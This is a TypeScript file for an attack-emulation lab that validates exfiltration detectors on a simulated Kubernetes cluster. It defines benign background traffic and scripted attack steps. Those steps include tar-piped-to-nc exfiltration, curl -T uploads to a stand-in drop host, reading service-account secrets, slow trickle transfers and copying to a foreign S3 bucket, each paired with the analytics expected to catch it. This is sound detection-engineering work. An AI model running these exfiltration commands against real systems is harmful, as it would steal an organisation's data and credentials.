import type { LabClock } from './clock.js';
import type { Lab, LabHostSpec, ProbeSpec } from './lab.js';
import type { ApiUser, LabPod, ProcessSpec, TelemetryWriter } from './telemetry.js';

/** The cluster the lab pretends to be. */
export const LAB_CLUSTER = 'lab';
export const LAB_POD_CIDR = '10.244.0.0/24';
export const LAB_SERVICE_CIDR = '10.96.0.0/16';
/** Our cloud account and the range of our own network (the organisation's storage lives there). */
export const LAB_ACCOUNT = '111122223333';
export const LAB_OWN_CIDR = '172.31.0.0/16';
export const TRUSTED_REGISTRY = 'registry.acme.example';

/** Addresses outside the organisation (documentation ranges, RFC 5737), all on the lab's "external" host. */
export const EXTERNAL = {
  /** The partner API the web frontend calls all the time. */
  partner: '203.0.113.10',
  /** The attacker's drop host: `nc -l` on 4444, an HTTP upload endpoint on 8080. */
  drop: '203.0.113.66',
  /** Where the slow trickle goes. */
  trickle: '203.0.113.77',
  /** Never contacted before the burst. */
  fresh: '198.51.100.23',
} as const;

/** The organisation's storage host (an object store endpoint inside our own network). */
export const STORAGE = '172.31.5.10';

/** The lab's stand-in for Amazon S3: an address in a documentation range the lab's preset declares an S3 range. */
export const S3 = { address: '198.51.100.200', prefix: '198.51.100.128/25', region: 'eu-west-1' } as const;
/** Buckets of the organisation (`organization.buckets`) and the attacker's bucket (in an account we do not own). */
export const OWN_BUCKETS = ['acme-*'];
export const ATTACKER_BUCKET = 'exfil-drop-7731';

/** The Kubernetes API server (the `kubernetes` service address). */
export const KUBE_API = '10.96.0.1';

/** Heartbeat probe (lab instrumentation, never part of a scenario): benchmarking range, RFC 2544. */
export const PROBE: ProbeSpec = { address: '198.18.0.250', target: '198.18.0.251' };

const pod = (p: Omit<LabPod, 'container' | 'serviceAccount'> & Partial<Pick<LabPod, 'container' | 'serviceAccount'>>): LabPod => ({
  container: p.workloadName,
  serviceAccount: p.workloadName,
  ...p,
});

/** The pods of the lab, one namespace each. */
export const LAB_PODS: readonly LabPod[] = [
  pod({
    host: 'web',
    namespace: 'shop',
    name: 'web-frontend-6d8f7c9b5-x2x7q',
    workloadKind: 'Deployment',
    workloadName: 'web-frontend',
    owner: { kind: 'ReplicaSet', name: 'web-frontend-6d8f7c9b5' },
    image: `${TRUSTED_REGISTRY}/shop/web-frontend:1.14.2`,
    labels: { app: 'web-frontend', tier: 'frontend', 'pod-template-hash': '6d8f7c9b5' },
    ip: '10.244.0.11',
  }),
  pod({
    host: 'api',
    namespace: 'shop',
    name: 'orders-api-7c4b9d6f8-k8slp',
    workloadKind: 'Deployment',
    workloadName: 'orders-api',
    owner: { kind: 'ReplicaSet', name: 'orders-api-7c4b9d6f8' },
    image: `${TRUSTED_REGISTRY}/shop/orders-api:3.2.0`,
    labels: { app: 'orders-api', tier: 'backend', 'pod-template-hash': '7c4b9d6f8' },
    ip: '10.244.0.12',
  }),
  pod({
    host: 'db',
    namespace: 'shop',
    name: 'orders-db-0',
    workloadKind: 'StatefulSet',
    workloadName: 'orders-db',
    owner: { kind: 'StatefulSet', name: 'orders-db' },
    container: 'postgres',
    image: `${TRUSTED_REGISTRY}/shop/postgres:15.4`,
    labels: { app: 'orders-db', tier: 'data' },
    ip: '10.244.0.13',
  }),
  pod({
    host: 'billing',
    namespace: 'shop',
    name: 'billing-api-5f7d8c6b4-qj9zw',
    workloadKind: 'Deployment',
    workloadName: 'billing-api',
    owner: { kind: 'ReplicaSet', name: 'billing-api-5f7d8c6b4' },
    image: `${TRUSTED_REGISTRY}/shop/billing-api:2.0.1`,
    labels: { app: 'billing-api', tier: 'backend', 'pod-template-hash': '5f7d8c6b4' },
    ip: '10.244.0.14',
  }),
  pod({
    host: 'reports',
    namespace: 'shop',
    name: 'reports-worker-84c5d7b9f-m4vtn',
    workloadKind: 'Deployment',
    workloadName: 'reports-worker',
    owner: { kind: 'ReplicaSet', name: 'reports-worker-84c5d7b9f' },
    // pulled from a public registry nobody vetted
    image: 'docker.io/reportgen/worker:latest',
    labels: { app: 'reports-worker', tier: 'batch', 'pod-template-hash': '84c5d7b9f' },
    ip: '10.244.0.15',
  }),
  pod({
    host: 'etl',
    namespace: 'data',
    name: 'orders-etl-5b9c7d8f6-tq4rz',
    workloadKind: 'Deployment',
    workloadName: 'orders-etl',
    owner: { kind: 'ReplicaSet', name: 'orders-etl-5b9c7d8f6' },
    image: `${TRUSTED_REGISTRY}/data/orders-etl:0.9.4`,
    labels: { app: 'orders-etl', tier: 'batch', 'pod-template-hash': '5b9c7d8f6' },
    ip: '10.244.0.17',
  }),
  pod({
    host: 'backup',
    namespace: 'ops',
    name: 'nightly-backup-28930140-7wq2d',
    workloadKind: 'CronJob',
    workloadName: 'nightly-backup',
    owner: { kind: 'Job', name: 'nightly-backup-28930140' },
    container: 'backup',
    image: `${TRUSTED_REGISTRY}/ops/backup:1.3.0`,
    labels: { app: 'nightly-backup', 'job-name': 'nightly-backup-28930140' },
    ip: '10.244.0.16',
  }),
];

export function labPod(host: string): LabPod {
  const found = LAB_PODS.find((p) => p.host === host);
  if (!found) throw new Error(`no lab pod on host "${host}"`);
  return found;
}

/** The lab's hosts: the pods, the external host, the organisation's storage host. */
export const LAB_HOSTS: readonly LabHostSpec[] = [
  ...LAB_PODS.map((p) => ({ name: p.host, addresses: [`${p.ip}/24`] })),
  { name: 'ext', addresses: [`${EXTERNAL.drop}/24`, `${EXTERNAL.partner}/24`, `${EXTERNAL.trickle}/24`, `${EXTERNAL.fresh}/24`] },
  { name: 'store', addresses: [`${STORAGE}/16`] },
  { name: 's3', addresses: [`${S3.address}/24`] },
  { name: 'kapi', addresses: [`${KUBE_API}/16`] },
];

/** The developer whose credentials the attacker uses for `kubectl exec`. */
export const ATTACKER: ApiUser = {
  username: 'jane@acme.example',
  groups: ['developers', 'system:authenticated'],
  sourceIp: '192.0.2.44',
  userAgent: 'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350',
};

/**
 * The organisation's accepted exception for its nightly backup: the backup's own
 * `curl -T` upload to our storage host is an upload, which `exec_payload`
 * reports (low, "to own") unless excepted — its ADS page says to except such jobs
 * by workload and destination, with an owner and an expiry. Narrow on purpose:
 * only the `upload` category, only to a destination of class `own`.
 */
export function backupException(expires: string): Record<string, unknown> {
  return {
    id: 'nightly-backup-to-own-storage',
    analytics: ['exec_payload'],
    match: {
      'workload.workloadName': 'nightly-backup',
      'workload.namespace': 'ops',
      'attributes.exec.payload.categories': 'upload',
      'attributes.destination.class': 'own',
    },
    reason: 'The nightly backup CronJob uploads its dump with curl to the organisation’s storage host',
    owner: 'platform-team@acme.example',
    expires,
  };
}

/** The t1537 preset configuration that describes the lab (inventory path filled in by the runner). */
export function labPresetConfig(inventoryPath: string, now = Date.now()): Record<string, unknown> {
  return {
    exceptions: [backupException(new Date(now + 365 * 86_400_000).toISOString().slice(0, 10))],
    organization: { accounts: [LAB_ACCOUNT], cidrs: [LAB_OWN_CIDR], buckets: OWN_BUCKETS },
    cluster: { name: LAB_CLUSTER, podCidrs: [LAB_POD_CIDR], serviceCidrs: [LAB_SERVICE_CIDR] },
    destinations: { cloudRanges: { prefixes: [{ prefix: S3.prefix, service: 'S3', region: S3.region }] } },
    images: { trustedRegistries: [TRUSTED_REGISTRY] },
    inventory: inventoryPath,
  };
}

/** What a step gets to act in the lab. */
export interface StepContext {
  readonly lab: Lab;
  readonly clock: LabClock;
  /** The run's temp directory (pod file systems live under `pods/<host>`). */
  readonly dir: string;
  readonly signal: AbortSignal;
  /** A directory of the pod's "file system" (created on first use). */
  podPath(pod: LabPod, path: string): string;
  /** Write `bytes` of incompressible data (or a sparse file of zeros) to a file of the pod (created once). */
  podFile(pod: LabPod, path: string, bytes: number, options?: { sparse?: boolean }): string;
  /** Write an executable script into the pod's file system; returns its path. */
  podExecutable(pod: LabPod, path: string, script: string): string;
  /** Writes the audit and runtime events. */
  readonly telemetry: TelemetryWriter;
  /**
   * Run a program in a pod and wait for it (its output is discarded). Writes what the sensors record:
   * the audit `pods/exec` event when `exec` is given, and a Tetragon
   * `process_exec` for the program and for each child it starts (found by
   * parent pid while it runs), all at the wall time they happened.
   */
  runInPod(
    pod: LabPod,
    argv: readonly string[],
    options?: { exec?: ApiUser; parent?: ProcessSpec['parent']; children?: number; timeoutMs?: number },
  ): Promise<{ code: number | null; stderr: string }>;
  sleep(ms: number): Promise<void>;
  log(line: string): void;
}

/** One step of an attack, or one benign activity. */
export interface ScenarioStep {
  /** snake_case id, also the `--scenario` name. */
  id: string;
  kind: 'attack' | 'benign';
  title: string;
  /** What the step does, for the report and docs. */
  description: string;
  /** Pods the step acts from: alerts about them, raised after the step started, are the step's. */
  pods: readonly string[];
  /** Destinations the step sends to. */
  destinations: readonly string[];
  /** API identities the step acts as, for alerts that name a user but no pod (`attributes['user.name']`). */
  principals?: readonly string[];
  /** Analytics expected to catch it (attacks) — what the validation table lists. */
  expected: readonly string[];
  run(ctx: StepContext): Promise<void>;
}

/** A benign activity that runs in the background for the whole emulation. */
export interface BackgroundActivity {
  id: string;
  title: string;
  description: string;
  start(ctx: StepContext): Promise<{ stop(): Promise<void> }>;
}

const web = labPod('web');
const api = labPod('api');
const db = labPod('db');
const billing = labPod('billing');
const reports = labPod('reports');
const backup = labPod('backup');
const etl = labPod('etl');

/** A shell loop in a pod's namespace: a command every `everyMs` (wall). */
async function loop(ctx: StepContext, host: string, command: string, everyMs: number): Promise<{ stop(): Promise<void> }> {
  const proc = ctx.lab.spawn(host, ['sh', '-c', `while :; do ${command} >/dev/null 2>&1; sleep ${(everyMs / 1000).toFixed(3)}; done`], {
    name: `loop:${host}`,
  });
  return { stop: () => proc.stop(300) };
}

/** Routine traffic inside the cluster and to the partner API, all the time. */
export const podTraffic: BackgroundActivity = {
  id: 'pod_http',
  title: 'Periodic HTTP between pods and to a partner API',
  description:
    'web-frontend → orders-api every 0.5 s and → the partner API (203.0.113.10:443) every 1.5 s; billing-api → orders-api and → the partner API; orders-api → orders-db:5432; reports-worker and orders-etl → orders-api; orders-etl reads from the organisation’s S3 bucket acme-data-lake',
  async start(ctx) {
    const lake = `acme-data-lake.s3.${S3.region}.amazonaws.com`;
    const u = (host: string, port: number, path: string) => `http://${host}:${port}${path}`;
    const curl = (url: string) => `curl -s -o /dev/null --max-time 2 '${url}'`;
    const loops = [
      await loop(ctx, 'web', curl(u(api.ip, 8080, '/api/orders?size=2048')), 500),
      await loop(ctx, 'web', curl(u(EXTERNAL.partner, 443, '/v1/rates?size=1024')), 1_500),
      await loop(ctx, 'billing', curl(u(api.ip, 8080, '/api/invoices?size=4096')), 1_000),
      await loop(ctx, 'billing', curl(u(EXTERNAL.partner, 443, '/v1/payments?size=512')), 2_000),
      await loop(ctx, 'api', `printf 'SELECT 1;' | nc -N -w 2 ${db.ip} 5432`, 700),
      await loop(ctx, 'reports', curl(u(api.ip, 8080, '/api/reports?size=8192')), 1_200),
      await loop(ctx, 'etl', curl(u(api.ip, 8080, '/api/orders/changes?size=16384')), 1_000),
      await loop(
        ctx,
        'etl',
        `curl -s -o /dev/null --max-time 2 --resolve ${lake}:80:${S3.address} 'http://${lake}/orders/part-0001.parquet?size=65536'`,
        2_500,
      ),
    ];
    return { stop: async () => void (await Promise.all(loops.map((l) => l.stop()))) };
  },
};

/** The nightly backup: a few hundred MB to the organisation's storage host. */
export function nightlyBackup(bytes: number): ScenarioStep {
  return {
    id: 'nightly_backup',
    kind: 'benign',
    title: 'Nightly backup to the organisation’s storage',
    description: `nightly-backup (CronJob) uploads a ${Math.round(bytes / 1e6)} MB dump with curl -T to ${STORAGE}:9000 (our own network)`,
    pods: [backup.name],
    destinations: [STORAGE],
    expected: [],
    async run(ctx) {
      const dump = ctx.podFile(backup, '/backup/orders.dump', bytes, { sparse: true });
      const r = await ctx.runInPod(backup, ['curl', '-sS', '-o', '/dev/null', '-T', dump, `http://${STORAGE}:9000/backups/orders-${Date.now()}.dump`], {
        parent: { binary: '/bin/sh', args: ['/usr/local/bin/backup.sh'] },
        timeoutMs: 60_000,
      });
      if (r.code !== 0) throw new Error(`backup upload failed: ${r.stderr.trim()}`);
    },
  };
}

/** Sizes of what the attacks move. */
export interface AttackSizes {
  archiveBytes: number;
  uploadBytes: number;
  copyBytes: number;
  bucketBytes: number;
  burstBytes: number;
  trickleChunkBytes: number;
  trickleChunks: number;
  /** Wall ms between trickle chunks. */
  trickleEveryMs: number;
}

export const DEFAULT_SIZES: AttackSizes = {
  archiveBytes: 24_000_000,
  uploadBytes: 16_000_000,
  copyBytes: 8_000_000,
  bucketBytes: 150_000_000,
  burstBytes: 12_000_000,
  trickleChunkBytes: 200_000,
  trickleChunks: 24,
  trickleEveryMs: 1_000,
};

/** The parent Tetragon reports for a process started through the exec API: the container runtime's shim. */
const shim = (p: LabPod) => ({
  binary: '/usr/bin/containerd-shim-runc-v2',
  args: ['-namespace', 'k8s.io', '-id', p.name, '-address', '/run/containerd/containerd.sock'],
});

/** The secrets the implant of the untrusted image reads with its service account. */
export const HARVESTED_SECRETS = ['orders-db-credentials', 'billing-stripe-api-key', 'etl-s3-access-key', 'registry-pull-secret'];

/**
 * A stand-in for the AWS CLI (`aws s3 cp <file> s3://<bucket>/<key>`), written into the lab: the AWS CLI is not
 * a Debian package the lab can count on. It PUTs the file with curl to the lab's S3 host under the bucket's
 * virtual-hosted name, so the command line is the real `aws s3 cp` shape and the bytes really move.
 */
export const AWS_STANDIN = `#!/bin/sh
# lab stand-in for: aws s3 cp <file> s3://<bucket>/<key>
[ "$1" = s3 ] && [ "$2" = cp ] || { echo "lab aws: only 's3 cp <file> s3://bucket/key'" >&2; exit 2; }
file=$3; dest=\${4#s3://}; bucket=\${dest%%/*}; key=\${dest#*/}
host="$bucket.s3.${S3.region}.amazonaws.com"
exec curl -sS -o /dev/null --resolve "$host:80:${S3.address}" -T "$file" "http://$host/$key"
`;

/** The attack steps, in the order they run. */
export function attackSteps(sizes: AttackSizes = DEFAULT_SIZES): ScenarioStep[] {
  return [
    {
      id: 'secret_harvest',
      kind: 'attack',
      title: 'A pod of an untrusted image reads secrets with its service account',
      description: `reports-worker (image from an unvetted public registry) GETs ${HARVESTED_SECRETS.length} secrets from the API server (${KUBE_API}:443) with its service account token`,
      pods: [reports.name],
      destinations: [KUBE_API],
      principals: [`system:serviceaccount:${reports.namespace}:${reports.serviceAccount}`],
      expected: ['secret_harvesting', 'untrusted_image_sensitive_access'],
      async run(ctx) {
        const user: ApiUser = {
          username: `system:serviceaccount:${reports.namespace}:${reports.serviceAccount}`,
          groups: ['system:serviceaccounts', `system:serviceaccounts:${reports.namespace}`, 'system:authenticated'],
          sourceIp: reports.ip,
          userAgent: 'python-requests/2.31.0',
        };
        for (const name of HARVESTED_SECRETS) {
          const path = `/api/v1/namespaces/${reports.namespace}/secrets/${name}`;
          const wall = Date.now();
          const r = await ctx.runInPod(reports, ['curl', '-sS', '-o', '/dev/null', `http://${KUBE_API}:443${path}?size=1800`], {
            parent: { binary: '/usr/local/bin/python3', args: ['/app/worker.py'] },
            timeoutMs: 10_000,
          });
          if (r.code !== 0) throw new Error(`secret_harvest GET ${name} failed: ${r.stderr.trim()}`);
          ctx.telemetry.apiRequest(
            user,
            { verb: 'get', resource: 'secrets', namespace: reports.namespace, name, requestUri: path, code: 200, pod: reports },
            wall,
          );
          await ctx.sleep(150);
        }
      },
    },
    {
      id: 'archive_nc',
      kind: 'attack',
      title: 'Exec into the database pod, archive its data, send it with nc',
      description: `kubectl exec into orders-db-0: sh -c "tar czf - <data dir> | nc -N ${EXTERNAL.drop} 4444" (${Math.round(sizes.archiveBytes / 1e6)} MB of table files)`,
      pods: [db.name],
      destinations: [EXTERNAL.drop],
      expected: ['pod_exec', 'exec_payload', 'egress_volume_anomaly', 'new_external_destination', 'exfiltration_chain'],
      async run(ctx) {
        const data = ctx.podPath(db, '/var/lib/postgresql/data');
        ctx.podFile(db, '/var/lib/postgresql/data/base/16384/orders.dat', Math.floor(sizes.archiveBytes * 0.7));
        ctx.podFile(db, '/var/lib/postgresql/data/base/16384/customers.dat', Math.ceil(sizes.archiveBytes * 0.3));
        const command = ['sh', '-c', `tar czf - ${data} | nc -N ${EXTERNAL.drop} 4444`];
        const r = await ctx.runInPod(db, command, { exec: ATTACKER, parent: shim(db), children: 2, timeoutMs: 60_000 });
        if (r.code !== 0) throw new Error(`archive_nc failed: ${r.stderr.trim()}`);
      },
    },
    {
      id: 'curl_upload',
      kind: 'attack',
      title: 'Exec into the billing pod, upload an export with curl -T',
      description: `kubectl exec into billing-api: curl -T <invoices export> http://${EXTERNAL.drop}:8080/upload/ (${Math.round(sizes.uploadBytes / 1e6)} MB)`,
      pods: [billing.name],
      destinations: [EXTERNAL.drop],
      expected: ['pod_exec', 'exec_payload', 'egress_volume_anomaly', 'new_external_destination', 'exfiltration_chain'],
      async run(ctx) {
        const file = ctx.podFile(billing, '/srv/exports/invoices-2024.csv.gz', sizes.uploadBytes);
        const command = ['curl', '-sS', '-o', '/dev/null', '-T', file, `http://${EXTERNAL.drop}:8080/upload/invoices-2024.csv.gz`];
        const r = await ctx.runInPod(billing, command, { exec: ATTACKER, parent: shim(billing), timeoutMs: 60_000 });
        if (r.code !== 0) throw new Error(`curl_upload failed: ${r.stderr.trim()}`);
      },
    },
    {
      id: 'kubectl_cp',
      kind: 'attack',
      title: 'kubectl cp of the orders export out of the API pod',
      description: `kubectl cp from orders-api: the exec API runs "tar cf - <exports dir>" and streams the archive (${Math.round(sizes.copyBytes / 1e6)} MB) to the client through the API server, not over the pod's network`,
      pods: [api.name],
      destinations: [],
      expected: ['kubectl_cp', 'pod_exec', 'exec_payload'],
      async run(ctx) {
        const dir = ctx.podPath(api, '/srv/exports');
        ctx.podFile(api, '/srv/exports/orders-2024.csv', sizes.copyBytes);
        const r = await ctx.runInPod(api, ['tar', 'cf', '-', dir], { exec: ATTACKER, parent: shim(api), timeoutMs: 60_000 });
        if (r.code !== 0) throw new Error(`kubectl_cp failed: ${r.stderr.trim()}`);
      },
    },
    {
      id: 'foreign_bucket_upload',
      kind: 'attack',
      title: 'Exec into the ETL pod, copy a dump to a bucket of another account',
      description: `kubectl exec into orders-etl: aws s3 cp <dump> s3://${ATTACKER_BUCKET}/ (${Math.round(sizes.bucketBytes / 1e6)} MB to the lab's S3 range; the bucket is not the organisation's)`,
      pods: [etl.name],
      destinations: [S3.address],
      expected: ['cloud_storage_foreign_transfer', 'exec_payload', 'pod_exec'],
      async run(ctx) {
        const dump = ctx.podFile(etl, '/data/warehouse/orders-2024.parquet', sizes.bucketBytes, { sparse: true });
        const aws = ctx.podExecutable(etl, '/usr/local/bin/aws', AWS_STANDIN);
        const command = [aws, 's3', 'cp', dump, `s3://${ATTACKER_BUCKET}/orders-2024.parquet`];
        const r = await ctx.runInPod(etl, command, { exec: ATTACKER, parent: shim(etl), timeoutMs: 60_000 });
        if (r.code !== 0) throw new Error(`foreign_bucket_upload failed: ${r.stderr.trim()}`);
      },
    },
    {
      id: 'new_destination_burst',
      kind: 'attack',
      title: 'Burst from the web frontend to a never-seen destination',
      description: `web-frontend's own process uploads ${Math.round(sizes.burstBytes / 1e6)} MB to ${EXTERNAL.fresh}:443 in one go`,
      pods: [web.name],
      destinations: [EXTERNAL.fresh],
      expected: ['new_external_destination', 'egress_volume_anomaly', 'exec_payload'],
      async run(ctx) {
        const file = ctx.podFile(web, '/tmp/.cache/session-store.bin', sizes.burstBytes);
        const command = ['curl', '-sS', '-o', '/dev/null', '-T', file, `http://${EXTERNAL.fresh}:443/put`];
        const r = await ctx.runInPod(web, command, { parent: { binary: '/usr/local/bin/node', args: ['/srv/server.js'] }, timeoutMs: 60_000 });
        if (r.code !== 0) throw new Error(`new_destination_burst failed: ${r.stderr.trim()}`);
      },
    },
    {
      id: 'slow_trickle',
      kind: 'attack',
      title: 'Slow trickle from the pod of the untrusted image',
      description: `reports-worker sends ${sizes.trickleChunks} chunks of ${Math.round(sizes.trickleChunkBytes / 1e3)} kB with nc to ${EXTERNAL.trickle}:443, one every ${sizes.trickleEveryMs} ms of wall time (each flow far below any single-flow threshold)`,
      pods: [reports.name],
      destinations: [EXTERNAL.trickle],
      expected: ['new_external_destination', 'exec_payload', 'exfiltration_chain'],
      async run(ctx) {
        const chunk = ctx.podFile(reports, '/tmp/.r/chunk.bin', sizes.trickleChunkBytes);
        for (let i = 0; i < sizes.trickleChunks; i++) {
          const started = Date.now();
          const r = await ctx.runInPod(reports, ['sh', '-c', `exec nc -N -w 3 ${EXTERNAL.trickle} 443 < ${chunk}`], {
            parent: { binary: '/usr/local/bin/python3', args: ['/app/worker.py'] },
            timeoutMs: 10_000,
          });
          if (r.code !== 0) throw new Error(`slow_trickle chunk ${i} failed: ${r.stderr.trim()}`);
          await ctx.sleep(Math.max(0, sizes.trickleEveryMs - (Date.now() - started)));
        }
      },
    },
  ];
}

/** Long-running services of the lab (HTTP servers, nc listeners), started before any traffic. */
export const SERVICES: readonly { host: string; argv: readonly string[]; name: string; http?: boolean }[] = [
  { host: 'api', name: 'http', http: true, argv: [`${api.ip}:8080`] },
  { host: 'ext', name: 'http', http: true, argv: [`${EXTERNAL.partner}:443`, `${EXTERNAL.drop}:8080`, `${EXTERNAL.fresh}:443`] },
  { host: 'store', name: 'http', http: true, argv: [`${STORAGE}:9000`] },
  { host: 's3', name: 'http', http: true, argv: [`${S3.address}:80`] },
  { host: 'kapi', name: 'http', http: true, argv: [`${KUBE_API}:443`] },
  { host: 'ext', name: 'nc', argv: ['sh', '-c', `exec nc -dlk ${EXTERNAL.drop} 4444 > /dev/null`] },
  { host: 'ext', name: 'nc', argv: ['sh', '-c', `exec nc -dlk ${EXTERNAL.trickle} 443 > /dev/null`] },
  { host: 'db', name: 'nc', argv: ['sh', '-c', `exec nc -dlk ${db.ip} 5432 > /dev/null`] },
];
